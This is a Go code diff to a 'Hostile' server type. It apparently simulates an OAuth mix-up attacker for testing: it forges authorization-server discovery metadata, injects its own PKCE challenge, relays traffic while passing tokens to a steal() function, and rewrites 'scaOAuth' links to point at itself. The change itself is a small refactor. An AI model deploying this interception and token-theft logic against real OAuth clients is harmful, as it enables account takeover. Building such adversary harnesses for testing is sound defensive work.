@@ -6,7 +6,6 @@ import (
 	"encoding/base64"
 	"encoding/json"
 	"io"
-	"maps"
 	"net/http"
 	"net/http/httputil"
 	"net/url"
@@ -63,13 +62,14 @@ func (b *Hostile) steal(secret string) {
 // ServeHTTP implements http.Handler for the paths below BaseURL.
 func (b *Hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	own, _ := url.Parse(b.BaseURL)
-	switch path := strings.TrimPrefix(r.URL.Path, own.Path); {
-	case path == "/.well-known/oauth-authorization-server":
+	path := strings.TrimPrefix(r.URL.Path, own.Path)
+	switch path {
+	case "/.well-known/oauth-authorization-server":
 		at := map[MixUp]string{MixUpEndpoints: b.Honest, MixUpUser: b.BaseURL}[b.Way]
 		_ = layout.WriteJSON(w, http.StatusOK, map[string]any{
 			"issuer": b.BaseURL, "authorization_endpoint": at + "/oauth/authorize", "token_endpoint": at + "/oauth/token",
 		})
-	case path == "/oauth/authorize":
+	case "/oauth/authorize":
 		q := r.URL.Query()
 		sum := sha256.Sum256([]byte(hostileVerifier))
 		q.Set("code_challenge", base64.RawURLEncoding.EncodeToString(sum[:]))
@@ -116,9 +116,7 @@ func (b *Hostile) relay(path string) http.Handler {
 				b.steal(token)
 			}
 			if on, ok := answer["_links"].(map[string]any); ok && on["scaOAuth"] != nil && b.Way != MixUpServer {
-				on = maps.Clone(on)
 				on["scaOAuth"] = link{b.BaseURL + "/.well-known/oauth-authorization-server"}
-				answer["_links"] = on
 			}
 			body, err := json.Marshal(answer)
 			r.Body, r.ContentLength = io.NopCloser(bytes.NewReader(body)), int64(len(body))
